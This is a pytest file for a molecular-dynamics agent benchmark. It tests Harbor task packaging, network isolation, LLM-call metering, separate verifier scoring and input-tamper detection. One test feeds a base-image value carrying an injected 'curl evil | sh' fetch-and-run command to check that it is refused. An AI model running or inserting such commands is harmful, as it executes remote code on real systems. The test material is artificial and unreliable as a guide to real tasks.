"""The episode as a Harbor task: loaded by Harbor's own task model, and its verifier run on a real workspace.

Harbor needs Python ≥ 3.12, so it lives in its own environment: ``.venv-harbor/`` (``make harbor-env``), or the
interpreter named by ``MDBENCH_HARBOR_PYTHON``. Without either the loading test skips and says why.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from mdbench.episode.harbor import DEFAULT_BASE_IMAGE, write_harbor_task
from mdbench.errors import InputError
from mdbench.paths import PROJECT_ROOT

from _episode_helpers import needs_namespaces, prepare, run, run_verifier

LOAD = """
import json, sys
from harbor.models.task.task import Task
from harbor.models.task.verifier_mode import resolve_task_verifier_mode
t = Task(sys.argv[1])
c = t.config
print(json.dumps({"name": t.name, "instruction": t.instruction, "cpus": c.environment.cpus,
                  "memory_mb": c.environment.memory_mb, "gpus": c.environment.gpus,
                  "workdir": c.environment.workdir, "agent_timeout": c.agent.timeout_sec,
                  "agent_user": c.agent.user, "verifier_timeout": c.verifier.timeout_sec, "metadata": c.metadata,
                  "verifier_mode": resolve_task_verifier_mode(c).value, "artifacts": c.artifacts}))
"""
#: Harbor's own parse of a reward.json (every value a finite number, keys as declared).
REWARD = """
import json, math, sys
from harbor.models.verifier.result import VerifierResult
r = VerifierResult(rewards=json.load(open(sys.argv[1])))
assert all(isinstance(v, (int, float)) and math.isfinite(v) for v in r.rewards.values()), r.rewards
print(json.dumps(r.rewards))
"""
#: Harbor's resolution of the separate verifier's environment (which folder its image is built from).
VERIFIER_ENV = """
import json, sys
from harbor.models.task.task import Task
from harbor.models.task.verifier_mode import resolve_verifier_environment_definition
t = Task(sys.argv[1])
d = resolve_verifier_environment_definition(t.config, t.paths)
print(json.dumps({"directory": str(d.directory), "network_mode": t.config.environment.network_mode}))
"""
#: An unpinned base image (the lint check must flag it).
UNPINNED = "python:3.11-slim"


def harbor_python() -> Path | None:
    env = os.environ.get("MDBENCH_HARBOR_PYTHON")
    for cand in ([Path(env)] if env else []) + [PROJECT_ROOT / ".venv-harbor" / "bin" / "python"]:
        if cand.is_file():
            return cand
    return None


def _harbor_or_skip() -> Path:
    py = harbor_python()
    if py is None:
        reason = "Harbor not installed: run `make harbor-env` (creates .venv-harbor/) or set MDBENCH_HARBOR_PYTHON"
        print(f"SKIP: {reason}")
        pytest.skip(reason)
    return py


def _harbor(py: Path, *args: str) -> subprocess.CompletedProcess:
    """Harbor's own CLI in its environment (``harbor ARGS``)."""
    cli = "import sys; from harbor.cli.main import app; sys.argv = ['harbor', *sys.argv[1:]]; app()"
    return subprocess.run([str(py), "-c", cli, *args], capture_output=True, text=True, timeout=300)


def test_harbor_task_for_micro_loads_with_harbors_task_model(tmp_path):
    py = _harbor_or_skip()
    task = write_harbor_task("micro", tmp_path / "task", timeout_min=90, cpus=16, memory_mb=32768, gpus=1)
    proc = subprocess.run([str(py), "-c", LOAD, str(task)], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    got = json.loads(proc.stdout)
    prompt = (task / "environment" / "agent_input" / "PROMPT_TEMPLATE.md").read_text()
    assert got["name"] == "mdbench/electrolyte-study-micro" and got["instruction"] == prompt
    assert (got["cpus"], got["memory_mb"], got["gpus"], got["workdir"]) == (16, 32768, 1, "/app")
    assert (got["agent_timeout"], got["agent_user"], got["verifier_timeout"]) == (5400.0, "agent", 3600.0)
    assert got["metadata"]["preset"] == "micro" and got["metadata"]["md_budget_ns_per_case"] == 100.0
    # scoring in a fresh container that receives the agent's run directory, not in the agent's sandbox
    assert (got["verifier_mode"], got["artifacts"]) == ("separate", ["/app"])


def test_harbor_lint_passes_with_default_rules_and_all_rules_with_the_default_pinned_image(tmp_path):
    py = _harbor_or_skip()
    task = write_harbor_task("micro", tmp_path / "default")
    default = _harbor(py, "lint", "--json", str(task))
    assert default.returncode == 0 and json.loads(default.stdout) == [], default.stdout + default.stderr
    every = _harbor(py, "lint", "--select", "ALL", "--json", str(task))
    assert every.returncode == 0 and json.loads(every.stdout) == [], every.stdout + every.stderr
    # the check can fail: an unpinned FROM is flagged in both images (the agent's and the verifier's)
    unpinned = _harbor(py, "lint", "--select", "ALL", "--json",
                       str(write_harbor_task("micro", tmp_path / "unpinned", base_image=UNPINNED)))
    found = json.loads(unpinned.stdout)
    assert unpinned.returncode == 1 and {f["rule"] for f in found} == {"unpinned-image"}
    assert sorted(Path(f["path"]).relative_to(tmp_path / "unpinned").as_posix() for f in found) == [
        "environment/Dockerfile", "tests/Dockerfile"]


def test_bad_base_image_is_refused(tmp_path):
    with pytest.raises(InputError, match="not a container image reference"):
        write_harbor_task("micro", tmp_path / "t", base_image="python:3.11\nRUN curl evil | sh")
    assert not (tmp_path / "t").exists()


def test_harbor_task_layout_is_complete_and_deterministic(tmp_path):
    a = write_harbor_task("micro", tmp_path / "a")
    b = write_harbor_task("micro", tmp_path / "b")
    files = sorted(p.relative_to(a).as_posix() for p in a.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(b).as_posix() for p in b.rglob("*") if p.is_file())
    assert all((a / f).read_bytes() == (b / f).read_bytes() for f in files)
    for f in ("task.toml", "instruction.md", "environment/Dockerfile", "environment/agent-requirements.txt",
              "tests/test.sh", "tests/Dockerfile", "solution/solve.sh",
              "tests/bundle/bundle_checksums.sha256", "environment/agent_input/bundle_checksums.sha256",
              "tests/mdbench/pyproject.toml", "tests/mdbench/constraints.txt",
              "tests/mdbench/lib/mdbench/episode/harbor.py", "solution/mdbench/lib/mdbench/episode/agents.py"):
        assert f in files, f
    docker = (a / "environment" / "Dockerfile").read_text()
    for needle in ("gromacs", "packmol", "pip install --no-cache-dir -r /tmp/agent-requirements.txt", "chmod 0444",
                   "chmod 0555", "useradd", "COPY agent_input/ /app/agent_input/"):
        assert needle in docker, needle
    verifier = (a / "tests" / "Dockerfile").read_text()
    assert "pip install --no-cache-dir -c /opt/mdbench/constraints.txt /opt/mdbench" in verifier
    assert not any("__pycache__" in f for f in files)
    assert os.access(a / "tests" / "test.sh", os.X_OK) and os.access(a / "solution" / "solve.sh", os.X_OK)


@needs_namespaces
def test_harbor_verifier_writes_reward_json_for_an_empty_run(tmp_path):
    """tests/test.sh on this host, against the workspace of a null episode: reward 0.05, never a crash."""
    task = write_harbor_task("micro", tmp_path / "task")
    ep = prepare(tmp_path / "ep", "harness=reference", "model=null")
    result = run(ep, "null", "--no-reanalysis")
    out = tmp_path / "verifier"
    reward = run_verifier(task, ep / "workspace", out)
    assert set(reward) == {"reward", "simulation", "analysis", "evidence", "outcome"}
    assert reward["reward"] == pytest.approx(result["score"] / 100.0, abs=1e-5)
    verifier = json.loads((out / "episode_verifier.json").read_text())
    assert verifier["integrity"]["intact"]
    py = harbor_python()
    if py is not None:  # Harbor's own reward parser accepts it
        proc = subprocess.run([str(py), "-c", REWARD, str(out / "reward.json")], capture_output=True, text=True,
                              timeout=120)
        assert proc.returncode == 0 and json.loads(proc.stdout) == reward, proc.stderr[-2000:]


def test_a_verifier_that_cannot_finish_writes_reward_zero_and_fails(tmp_path):
    """No bundle to check against (a broken task): reward.json still rewritten — zeros — and a non-zero exit."""
    task = write_harbor_task("micro", tmp_path / "task")
    (tmp_path / "tests-without-bundle").mkdir()
    out = tmp_path / "verifier"
    out.mkdir()
    (out / "reward.json").write_text('{"reward": 1.0}')  # left by someone else: never trusted
    env = dict(os.environ, MDBENCH_WORKSPACE=str(tmp_path / "nowhere"), MDBENCH_VERIFIER_DIR=str(out),
               MDBENCH_TESTS_DIR=str(tmp_path / "tests-without-bundle"), MDBENCH_PYTHON=sys.executable)
    proc = subprocess.run(["bash", str(task / "tests" / "test.sh")], env=env, capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode != 0 and "reward 0 written" in proc.stderr
    assert json.loads((out / "reward.json").read_text()) == dict.fromkeys(
        ("reward", "simulation", "analysis", "evidence", "outcome"), 0.0)


def test_harbor_task_has_no_network_and_pinned_images_and_packages(tmp_path):
    task = write_harbor_task("micro", tmp_path / "t")
    toml = (task / "task.toml").read_text()
    assert 'network_mode = "no-network"' in toml and 'environment_mode = "separate"' in toml
    for rel in ("environment/Dockerfile", "tests/Dockerfile"):
        docker = (task / rel).read_text()
        assert "gromacs=2022.5-2" in docker and "packmol=1:20.14.0-1" in docker, rel
        (image,) = re.findall(r"^FROM (\S+)$", docker, re.M)
        assert image == DEFAULT_BASE_IMAGE and re.search(r"@sha256:[0-9a-f]{64}$", image), (rel, image)
    for rel in ("environment/agent-requirements.txt", "tests/mdbench/constraints.txt"):
        pins = _requirements(task / rel)
        assert pins and all(v for v in pins.values()), (rel, [k for k, v in pins.items() if not v])


def _requirements(path: Path) -> dict[str, str | None]:
    """name -> exact version (``None`` where the line is not an ``==`` pin), comments skipped."""
    out: dict[str, str | None] = {}
    for line in path.read_text().splitlines():
        line = line.split("#", 1)[0].strip()
        if line:
            m = re.fullmatch(r"([A-Za-z0-9_.\-]+)(?:\[[^\]]*\])?==([A-Za-z0-9_.+!\-]+)", line)
            out[(m.group(1) if m else re.split(r"[<>=!~ \[;]", line)[0]).lower().replace("_", "-")] = \
                m.group(2) if m else None
    return out


def _agent_env_packages() -> dict[str, str | None]:
    """scripts/agent_env.sh's PACKAGES: name -> pinned version (None where it names no version)."""
    text = (PROJECT_ROOT / "scripts" / "agent_env.sh").read_text()
    block = re.search(r"^PACKAGES=\((.*?)^\)", text, re.M | re.S).group(1)
    out = {}
    for spec in re.findall(r'"([^"]+)"', block):
        name, _, version = spec.partition("==")
        out[name.lower().replace("_", "-")] = version or None
    return out


def test_the_agents_image_carries_the_agent_toolchain_and_no_mdbench(tmp_path):
    """environment/ (the agent's image) holds the agent toolchain of scripts/agent_env.sh at exact versions and
    nothing of mdbench: no project source, no mdbench install, no mdbench-oracle on the PATH. The project lives
    only in the verifier's image (tests/) and the oracle's upload (solution/), which Harbor builds or copies
    for the verifier and the oracle only — Harbor itself resolves the verifier's image to tests/."""
    task = write_harbor_task("micro", tmp_path / "t")
    env = task / "environment"
    assert sorted(p.name for p in env.iterdir()) == ["Dockerfile", "PROMPT.md", "agent-requirements.txt",
                                                    "agent_input"]
    assert not [p for p in env.rglob("*") if p.suffix == ".py" or p.name == "pyproject.toml"]
    docker = (env / "Dockerfile").read_text()
    code = "\n".join(line for line in docker.splitlines() if not line.lstrip().startswith("#"))
    assert not re.search(r"(?i)/opt/mdbench|mdbench-oracle|ipykernel|COPY\s+mdbench|pip install[^\n]*mdbench",
                         code), code
    pins = _requirements(env / "agent-requirements.txt")
    assert "mdbench" not in pins and all(pins.values()), pins
    wanted = _agent_env_packages()
    assert set(wanted) <= set(pins), sorted(set(wanted) - set(pins))
    assert {k: pins[k] for k, v in wanted.items() if v} == {k: v for k, v in wanted.items() if v}
    for rel in ("tests/mdbench/lib/mdbench/episode/harbor.py", "solution/mdbench/lib/mdbench/episode/agents.py"):
        assert (task / rel).is_file(), rel
    py = harbor_python()
    if py is not None:
        proc = subprocess.run([str(py), "-c", VERIFIER_ENV, str(task)], capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr[-2000:]
        got = json.loads(proc.stdout)
        assert Path(got["directory"]).resolve() == (task / "tests").resolve(), got


def test_the_docker_oracle_brings_its_own_wheels_or_says_how(tmp_path):
    """Under Docker the oracle installs mdbench offline from solution/wheels; an empty wheel folder is refused
    when the task is written, and solve.sh without wheels stops with one line naming the fix."""
    with pytest.raises(InputError, match="no wheels"):
        write_harbor_task("micro", tmp_path / "t0", oracle_wheels=tmp_path)
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "mdbench-0.1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    task = write_harbor_task("micro", tmp_path / "t1", oracle_wheels=wheels)
    assert [p.name for p in (task / "solution" / "wheels").iterdir()] == ["mdbench-0.1.0-py3-none-any.whl"]
    bare = write_harbor_task("micro", tmp_path / "t2")
    solve = (bare / "solution" / "solve.sh").read_text()
    assert "--no-index --find-links /solution/wheels" in solve and "oracle_wheels=DIR" in solve
    script = solve.replace("cd /app", f"cd {tmp_path}")   # no /app on this host; the check comes before any install
    proc = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1 and "oracle_wheels" in proc.stderr


def test_harbor_artifact_transfer_resets_modes_and_the_verifier_still_judges_content(tmp_path):
    """Harbor re-materialises /app in the verifier through a tar ``data`` filter, which resets permission bits
    (0444 files come back 0644): the verifier does not count that as tampering, but a changed, missing or
    extra input still is one."""
    import tarfile

    from mdbench.episode.harbor import transported_integrity
    from mdbench.episode.workspace import compare_inputs

    bundle = write_harbor_task("micro", tmp_path / "task") / "tests" / "bundle"
    src = tmp_path / "app"
    shutil.copytree(bundle, src / "agent_input")
    (src / "PROMPT.md").write_bytes((bundle / "PROMPT_TEMPLATE.md").read_bytes())
    with tarfile.open(tmp_path / "app.tar", "w") as tar:
        tar.add(src, arcname="app")
    with tarfile.open(tmp_path / "app.tar") as tar:
        tar.extractall(tmp_path / "copy", filter="data")           # what Harbor's copy_via_tar does
    app = tmp_path / "copy" / "app"
    raw = compare_inputs(app / "agent_input", bundle, app / "PROMPT.md")
    assert not raw["intact"] and all(f.startswith("mode: ") for f in raw["findings"])   # the transfer's doing
    moved = transported_integrity(raw)
    assert moved["intact"] and moved["modes_ignored"] == raw["findings"] and moved["modes_not_checked"]
    victim = sorted(p for p in (app / "agent_input").rglob("*") if p.is_file() and p.suffix != ".sha256")[0]
    victim.write_text("tampered\n")
    (app / "agent_input" / "extra.txt").write_text("planted\n")
    moved = transported_integrity(compare_inputs(app / "agent_input", bundle, app / "PROMPT.md"))
    assert not moved["intact"]
    assert {f.split(":")[0] for f in moved["findings"]} == {"changed", "extra"}, moved["findings"]


def test_host_variant_carries_no_project_source_and_lints_clean(tmp_path):
    """FROM the arena base image: only the bundle and the prompt in environment/ (no mdbench source, no
    mdbench-oracle in the agent's image); Harbor's default lint rules pass."""
    task = write_harbor_task("micro", tmp_path / "t", base_image="mdbench-arena-base:0.2", cpus=2, memory_mb=4096)
    assert sorted(p.name for p in (task / "environment").iterdir()) == ["Dockerfile", "PROMPT.md", "agent_input"]
    docker = (task / "environment" / "Dockerfile").read_text()
    assert "pip install" not in docker and "mdbench-oracle" not in docker and "apt-get" not in docker
    py = harbor_python()
    if py is not None:
        lint = _harbor(py, "lint", "--json", str(task))
        assert lint.returncode == 0 and json.loads(lint.stdout) == [], lint.stdout + lint.stderr


@pytest.mark.slow
@pytest.mark.gromacs
@pytest.mark.timeout(5700)
@pytest.mark.skipif(os.geteuid() != 0, reason="the host plug-in's agent sandbox needs root")
def test_harbor_run_oracle_with_the_host_plugin_gives_the_audits_reward(tmp_path):
    """`harbor run -a oracle -e mdbench.arena.harbor_env:HostEnvironment` on the micro episode: the oracle's run
    directory reaches the separate verifier as an artifact and the reward is the SAEO audit's composite / 100."""
    py = _harbor_or_skip()
    task = write_harbor_task("micro", tmp_path / "task", base_image="mdbench-arena-base:0.2", cpus=2,
                             memory_mb=4096, timeout_min=60)
    env = dict(os.environ, LITELLM_LOCAL_MODEL_COST_MAP="True")
    proc = subprocess.run([str(py.parent / "harbor"), "run", "-p", str(task), "-a", "oracle", "-e",
                           "mdbench.arena.harbor_env:HostEnvironment", "-o", str(tmp_path / "jobs"), "--job-name",
                           "ep", "-n", "1", "-y", "-q"], capture_output=True, text=True, env=env, timeout=5400,
                          cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    (trial,) = [p.parent for p in (tmp_path / "jobs" / "ep").glob("*/result.json")]
    res = json.loads((trial / "result.json").read_text())
    assert res["exception_info"] is None, res["exception_info"]
    rewards = res["verifier_result"]["rewards"]
    verifier = json.loads((trial / "verifier" / "episode_verifier.json").read_text())
    assert verifier["integrity"]["intact"]
    assert rewards["reward"] == pytest.approx(verifier["audit"]["composite"] / 100.0, abs=1e-6)
    assert (trial / "artifacts" / "app" / "run_record" / "episode_terminal.json").is_file() or \
        any(trial.glob("artifacts/**/episode_terminal.json"))


@pytest.mark.slow
@pytest.mark.timeout(900)
@pytest.mark.skipif(os.geteuid() != 0, reason="the host plug-in's agent sandbox needs root")
def test_an_interrupt_ends_harbor_run_of_the_episode_and_the_whole_agent_tree(tmp_path):
    """SIGINT to `harbor run` on the episode task (host plug-in) while the agent runs: harbor exits within two
    minutes and no process of the agent outlives it (last session it sat at "0/1 running trials" ignoring
    SIGINT and SIGTERM)."""
    import signal
    import time

    py = _harbor_or_skip()
    task = write_harbor_task("micro", tmp_path / "task", base_image="mdbench-arena-base:0.2", cpus=2,
                             memory_mb=4096, timeout_min=30)
    n = 7000 + os.getpid() % 1000
    marker = f"sleep {n}"                  # the agent's processes; harbor's own argv holds $((…)), not this
    env = dict(os.environ, LITELLM_LOCAL_MODEL_COST_MAP="True")
    cmd = [str(py.parent / "harbor"), "run", "-p", str(task), "-a", "mdbench.arena.harbor_agent:CommandAgent",
           "--ak", "agent_name=sleeper",
           "--ak", f"command=(sleep $((7000 + {n - 7000})) &) ; sleep $((7000 + {n - 7000}))",
           "-e", "mdbench.arena.harbor_env:HostEnvironment", "-o", str(tmp_path / "jobs"), "--job-name", "int",
           "-n", "1", "-y", "-q"]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env, cwd=tmp_path)
    try:
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline and proc.poll() is None and \
                subprocess.run(["pgrep", "-x", "-f", marker], capture_output=True).returncode:
            time.sleep(1)
        assert subprocess.run(["pgrep", "-x", "-f", marker], capture_output=True).returncode == 0, \
            f"the agent never started (harbor exit {proc.poll()})"
        proc.send_signal(signal.SIGINT)
        try:
            proc.wait(timeout=120)
        except subprocess.TimeoutExpired:
            pytest.fail("harbor run did not end within 120 s of SIGINT")
        time.sleep(2)
        assert subprocess.run(["pgrep", "-x", "-f", marker], capture_output=True).returncode != 0, \
            "agent processes survived"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=30)


#: Harbor's installed agents and the CLI version each is pinned to (scripts/agent_harnesses.sh).
HARBOR_CLI_AGENTS = {"codex": "0.171.0", "opencode": "1.18.33"}


@pytest.mark.slow
@pytest.mark.timeout(1500)
@pytest.mark.skipif(os.geteuid() != 0, reason="the host plug-in's agent sandbox needs root")
@pytest.mark.parametrize("agent", ["codex", "opencode"])
def test_harbors_own_cli_agent_runs_the_episode_with_only_the_model_endpoint_reachable(agent, tmp_path):
    """`harbor run -a codex|opencode --ak skip_install=true` with the host plug-in, the agent's base URL = the
    metering proxy on the host's loopback (in front of a scripted model): Harbor asks for network_mode='allowlist'
    (the endpoint's host), the plug-in relays only that port; the proxy metered every call with the scripted
    tokens and USD and the endpoint's key never reached the agent; the real CLI runs the scripted shell commands in the sandbox (their files are in the artifact /app, as
    the host agent account), a scripted curl to another port, a private address and the Internet fails, the
    separate verifier writes a reward, and nothing is written outside the workspace (Harbor's /installed-agent)."""
    import socket

    from mdbench.arena.staging import HOST_AGENT_USER
    from mdbench.episode.harnesses import HarnessUnavailable, find_cli
    from mdbench.llm.fake_server import FakeChatServer
    from mdbench.llm.prices import PriceTable
    from mdbench.llm.proxy import MeteringProxy
    from mdbench.llm.scripted import ScriptedModel
    from mdbench.sandbox import capabilities

    py = _harbor_or_skip()
    try:
        cli, version = find_cli(agent)
    except HarnessUnavailable as exc:
        pytest.skip(str(exc))
    if not capabilities().get("namespaces"):
        pytest.skip("no namespaces here: the allow-list cannot be enforced")
    os.chmod(tmp_path, 0o755)
    other = socket.socket()                    # a host service on another loopback port: must stay unreachable
    other.bind(("127.0.0.1", 0))
    other.listen(4)
    other_port = other.getsockname()[1]
    net = (f"for u in http://127.0.0.1:{other_port}/ http://10.0.0.1/ https://example.com/; do "
           "if curl -s -m 5 -o /dev/null \"$u\"; then echo \"REACHED $u\" >> net.txt; "
           "else echo \"blocked $u\" >> net.txt; fi; done")
    script = {"turns": [{"shell": "echo hello-from-harbor > from_agent.txt && id -un >> from_agent.txt"},
                        {"shell": net}, {"final": "Scripted steps done."}],
              "usage": {"input": 1000, "cached": 0, "output": 50}}
    key = "sk-harbor-fake-" + str(os.getpid())
    up = FakeChatServer(ScriptedModel(script), api_key=key).start()
    proxy = MeteringProxy(f"http://127.0.0.1:{up._httpd.server_address[1]}/v1", log_dir=tmp_path / "llm",
                          api_key=key, prices=PriceTable.load(None))
    port = proxy.serve_loopback(0)
    installed_agent_before = os.path.lexists("/installed-agent")
    task = write_harbor_task("micro", tmp_path / "task", base_image="mdbench-arena-base:0.2", cpus=2,
                             memory_mb=4096, timeout_min=20)
    # the agent holds a dummy key; the endpoint's key stays with the proxy
    env = dict(os.environ, LITELLM_LOCAL_MODEL_COST_MAP="True", OPENAI_API_KEY="sk-agent-dummy")
    cmd = [str(py.parent / "harbor"), "run", "-p", str(task), "-a", agent, "-m", "openai/gpt-5",
           "--ak", f"version={HARBOR_CLI_AGENTS[agent]}", "--ak", "skip_install=true",
           "--ak", f"base_url=http://127.0.0.1:{port}/v1", "-e", "mdbench.arena.harbor_env:HostEnvironment",
           "-o", str(tmp_path / "jobs"), "--job-name", "cli", "-n", "1", "-y", "-q"]
    try:
        proc = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=1200, cwd=tmp_path)
    finally:
        totals = proxy.stop()
        up.stop()
        other.close()
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    (trial,) = [p.parent for p in (tmp_path / "jobs" / "cli").glob("*/result.json")]
    res = json.loads((trial / "result.json").read_text())
    assert res["exception_info"] is None, res["exception_info"]
    # the CLI Harbor ran is the pinned one, and it talked to the scripted model through the relay
    assert version == HARBOR_CLI_AGENTS[agent]
    assert len(up.served) >= 3, up.served
    # metered by the evaluator: every call the endpoint answered, with the scripted tokens, priced
    calls = [json.loads(x) for x in (tmp_path / "llm" / "calls.jsonl").read_text().splitlines()]
    assert totals.calls == len(up.served) and totals.failed == 0, (totals, calls)
    assert (totals.tokens_in, totals.tokens_out) == (1000 * totals.calls, 50 * totals.calls)
    # gpt-5 calls priced from params/llm_prices.yaml; a helper model without a price (OpenCode's title model)
    # stays unknown, never zero
    ok = [c for c in calls if c["method"] == "POST" and c["status"] == 200]
    assert len(ok) == totals.calls and any(c["model"] == "gpt-5" for c in ok)
    priced = [c for c in ok if c["model"] == "gpt-5"]
    assert all(c["metered"]["usd"] is not None for c in priced)
    assert totals.usd_unknown_calls == sum(1 for c in ok if c["metered"]["usd"] is None)
    assert totals.usd == pytest.approx(len(priced) * (1000 * 1.25 + 50 * 10.0) / 1e6), (totals, calls)
    assert {r["authorization"] for r in up.requests} == {f"Bearer {key}"}
    for f in trial.rglob("*"):
        if f.is_file() and not f.is_symlink():
            assert key.encode() not in f.read_bytes(), f
    # the scripted commands ran in the sandbox, in /app, as the host agent account
    app = trial / "artifacts" / "app"
    assert (app / "from_agent.txt").read_text().splitlines() == ["hello-from-harbor", HOST_AGENT_USER]
    # only the model endpoint was reachable
    lines = (app / "net.txt").read_text().splitlines()
    assert len(lines) == 3 and all(x.startswith("blocked ") for x in lines), lines
    # the separate verifier judged it
    rewards = res["verifier_result"]["rewards"]
    assert 0.0 <= rewards["reward"] <= 1.0
    # Harbor's /installed-agent went to the workspace, not to this machine's /
    assert os.path.lexists("/installed-agent") == installed_agent_before


def test_an_allowlist_host_that_is_not_loopback_is_refused_before_the_trial_with_the_fix(tmp_path):
    """Harbor's codex agent with a remote base URL asks the host plug-in for allowlist=[that host]: refused
    before anything runs, naming the host and the loopback proxy to use instead; nothing is reached."""
    py = _harbor_or_skip()
    task = write_harbor_task("micro", tmp_path / "task", base_image="mdbench-arena-base:0.2", cpus=2,
                             memory_mb=4096)
    env = dict(os.environ, LITELLM_LOCAL_MODEL_COST_MAP="True", OPENAI_API_KEY="sk-unused")
    proc = subprocess.run([str(py.parent / "harbor"), "run", "-p", str(task), "-a", "codex", "-m", "openai/gpt-5",
                           "--ak", "skip_install=true", "--ak", "base_url=http://example.com/v1",
                           "-e", "mdbench.arena.harbor_env:HostEnvironment", "-o", str(tmp_path / "jobs"),
                           "--job-name", "nl", "-n", "1", "-y", "-q"], capture_output=True, text=True, env=env,
                          timeout=300, cwd=tmp_path)
    text = re.sub(r"[\s│]+", " ", proc.stdout + proc.stderr)
    assert proc.returncode != 0
    assert "network_mode='allowlist' with example.com is not supported by mdbench-host" in text, text[-3000:]
    assert "mdbench.llm.proxy" in text
    assert not list((tmp_path / "jobs").glob("*/*/agent/*.txt"))
